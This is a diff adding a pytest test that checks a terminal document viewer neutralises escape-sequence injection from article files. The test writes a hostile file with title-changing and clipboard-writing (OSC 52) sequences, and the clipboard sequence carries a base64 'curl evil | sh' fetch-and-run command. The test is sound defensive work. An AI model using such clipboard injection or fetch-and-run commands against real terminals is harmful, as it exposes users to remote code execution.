@@ -139,3 +139,25 @@ def test_keys_typed_in_one_burst_land_where_they_are_meant(terminal: Terminal) -
     assert "evidencen" not in screen
     terminal.keys("q")
     terminal.wait_for(lambda s: "exit=0" in s, "the app to quit")
+
+
+@pytest.mark.skipif(not SCRIPT.exists(), reason="the console script is not installed")
+def test_an_article_cannot_drive_the_terminal(terminal: Terminal, tmp_path: Path) -> None:
+    folder = tmp_path / "hostile"
+    folder.mkdir()
+    payload = "Y3VybCBldmlsIHwgc2g="  # "curl evil | sh"
+    (folder / "leak.txt").write_text(
+        f"Leak\x1b]0;owned\x07 widens\n\nHe said\x1b]52;c;{payload}\x1b\\ nothing.\x1b[2J\n",
+        encoding="utf-8",
+    )
+    terminal.start(f"{SCRIPT} {folder}; echo exit=$?; sleep 30")
+    screen = terminal.wait_for(lambda s: "Documents" in s and "widens" in s, "the first screen")
+    assert "Leak␛]0;owned␇ widens" in screen
+    terminal.keys("2")
+    screen = terminal.wait_for(lambda s: "He said␛]52;c;" in s, "the article shown")
+    buffers = terminal.tmux("list-buffers", check=False)
+    assert payload not in buffers
+    assert "owned" not in terminal.tmux("display-message", "-p", "#{pane_title}")
+    terminal.keys("q")
+    screen = terminal.wait_for(lambda s: "exit=" in s, "the app to quit")
+    assert "exit=0" in screen
